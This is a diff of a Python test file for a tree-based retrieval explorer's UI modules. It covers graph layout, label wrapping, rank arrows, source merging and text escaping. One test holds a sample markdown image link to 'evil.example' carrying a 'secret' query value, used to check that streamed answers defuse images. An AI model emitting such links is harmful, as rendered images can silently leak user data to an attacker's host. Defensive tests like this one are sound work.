@@ -1,4 +1,4 @@
-"""The explorer's pure helpers: tree layout and collapsing, text safety, tables, override."""
+"""The explorer's UI components: tree layout and collapsing, text safety, tables, workspace."""
 
 from __future__ import annotations
 
@@ -7,12 +7,11 @@ import re
 
 import pytest
 
-from pages import state
-from pages import widgets as w
 from treerag_core.config import IndexSettings
 from treerag_core.embedders import get_embedder
 from treerag_core.index import SourceDocument, build_index
-from treerag_core.types import LocatedLeaf, LocateResult
+from ui import resources, score_tables, text_safety, workspace
+from ui import tree_graph as w
 
 
 def big_markdown(chapters: int = 16, sections: int = 5, items: int = 2) -> str:
@@ -69,7 +68,7 @@ def test_picked_leaf_deep_in_the_tree_is_drawn_with_its_path(big_index):
         assert drawn[ancestor]["color"]["background"] in (w.PALETTE["path"],)
     assert drawn[leaf.node_id]["color"]["background"] == w.PALETTE["picked"]
     # Chapter 15 is beyond the sibling cap, yet shown because it is on the path.
-    assert any("Chapter 15" in n["label"] for n in view.nodes)
+    assert any("Chapter 15" in n["label"].replace("\n", " ") for n in view.nodes)
     assert len(view.nodes) < 40
     path_edges = [e for e in view.edges if e["color"] == w.PALETTE["edge_path"]]
     assert len(path_edges) == len(big_index.ancestors(leaf.node_id))
@@ -100,61 +99,59 @@ def test_heading_search(big_index):
 
 def test_plain_escapes_markdown_and_html():
     text = "**bold** [x](http://e) <img src=x> $math$ :red[x] # h"
-    escaped = w.plain(text)
+    escaped = text_safety.plain(text)
     assert re.search(r"(?<!\\)[*\[\]()<>$:#]", escaped) is None
     assert re.sub(r"\\(.)", r"\1", escaped) == text
 
 
 def test_answer_images_are_defused_even_across_deltas():
     deltas = ["See the chart !", "[chart](http://evil.example/q?x=secret) and ", "![b](u)"]
-    out = "".join(w.safe_answer_stream(deltas))
+    out = "".join(text_safety.safe_answer_stream(deltas))
     assert "![" not in out.replace("!\\[", "")
     assert out.replace("\\", "") == "".join(deltas)
-    assert "".join(w.safe_answer_stream(["[1] a\n[2] b"])) == "[1] a  \n[2] b"
+    assert "".join(text_safety.safe_answer_stream(["[1] a\n[2] b"])) == "[1] a  \n[2] b"
 
 
 def test_rank_change_arrows():
-    assert w.rank_change(5, 2) == "↑3"
-    assert w.rank_change(1, 4) == "↓3"
-    assert w.rank_change(2, 2) == "="
-
-
-def test_override_keeps_sub_queries_and_rejects_non_leaves(big_index):
-    leaves = [n for n in big_index.leaves()][:3]
-    previous = LocateResult(
-        (LocatedLeaf(leaves[0].node_id, leaves[0].heading_path, "refined", 0.9, "llm"),),
-        "because",
-        "llm",
-    )
-    new = state.override_locate(
-        big_index, previous, "question", [leaves[0].node_id, leaves[1].node_id]
-    )
-    assert [leaf.sub_query for leaf in new.leaves] == ["refined", "question"]
-    assert [leaf.source for leaf in new.leaves] == ["llm", "manual"]
-    assert new.locator == "llm+manual" and new.usage.input_tokens == 0
-    assert f"added {leaves[1].node_id}" in new.thinking
-    root = next(n for n in big_index.nodes.values() if n.is_root)
-    with pytest.raises(ValueError, match="not a leaf"):
-        state.override_locate(big_index, previous, "q", [root.node_id])
-    with pytest.raises(ValueError, match="at least one"):
-        state.override_locate(big_index, previous, "q", [])
+    assert score_tables.rank_change(5, 2) == "↑3"
+    assert score_tables.rank_change(1, 4) == "↓3"
+    assert score_tables.rank_change(2, 2) == "="
 
 
 def test_merge_sources_replaces_same_name():
     old = [SourceDocument("a.md", "# A\n\nold"), SourceDocument("b.md", "# B\n\nb")]
-    merged, replaced = state.merge_sources(old, [SourceDocument("a.md", "# A\n\nnew")])
+    merged, replaced = workspace.merge_sources(old, [SourceDocument("a.md", "# A\n\nnew")])
     assert [(s.name, s.text) for s in merged] == [("b.md", "# B\n\nb"), ("a.md", "# A\n\nnew")]
     assert replaced == ["a.md"]
 
 
 def test_sample_paths_skip_the_readme_and_put_the_seed_paper_first():
-    names = [p.name for p in state.sample_paths()]
+    names = [p.name for p in resources.sample_paths()]
     assert "README.md" not in names
     assert names[0] == "test_paper.md"
 
 
 def test_the_app_uses_the_real_default_embedder_unless_told(monkeypatch):
     monkeypatch.delenv("TREERAG_EMBEDDER", raising=False)
-    assert state.default_embedder() == IndexSettings().embedder == "multilingual"
+    assert resources.default_embedder() == IndexSettings().embedder == "multilingual"
     monkeypatch.setenv("TREERAG_EMBEDDER", "hashing")
-    assert state.default_embedder() == "hashing"
+    assert resources.default_embedder() == "hashing"
+
+
+def test_labels_wrap_chinese_headings_and_stay_short():
+    label = w.wrap_label("第二章 有限责任公司的设立和组织机构以及股东会的职权与议事规则")
+    lines = label.split("\n")
+    assert 1 < len(lines) <= w.LABEL_LINES and lines[-1].endswith("…")
+    assert all(
+        sum(2 if "\u4e00" <= c <= "\u9fff" else 1 for c in ln) <= w.LABEL_LINE_UNITS + 1
+        for ln in lines
+    )
+    assert w.wrap_label("3.3 Training Procedure") == "3.3 Training\nProcedure"
+
+
+def test_inspected_node_keeps_its_cited_border_and_gets_a_halo(big_index):
+    leaf = next(n for n in big_index.leaves() if n.heading == "Item 1.1.1").node_id
+    marks = w.GraphMarks(picked=frozenset({leaf}), cited=frozenset({leaf}), selected=leaf)
+    node = next(n for n in w.graph_view(big_index, ["handbook.md"], marks).nodes if n["id"] == leaf)
+    assert node["color"]["border"] == w.PALETTE["cited"]
+    assert node["shadow"]["color"] == w.PALETTE["selected"]
